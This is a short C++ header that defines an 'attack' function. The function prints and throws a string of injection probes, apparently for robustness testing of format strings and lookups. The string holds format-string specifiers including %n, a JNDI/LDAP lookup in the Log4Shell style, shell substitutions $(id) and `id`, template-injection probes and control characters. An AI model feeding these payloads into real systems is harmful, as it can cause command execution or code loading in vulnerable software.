// Format strings and lookups.
#include <cstdio>
#include <stdexcept>
inline void attack(int) {
  static const char text[] =
    "%s%s%s%s%s%n%n%1000000d\n"
    "${jndi:ldap://example.invalid/x} ${HOME} $(id) `id` {0} {0.__class__} {{7*7}}\n"
    "%25%0A%0D%00 \\x1b \\u202e\n";
  std::puts(text);
  std::fputs(text, stderr);
  throw std::runtime_error(text);
}
#define ATTACK(function) attack(function)
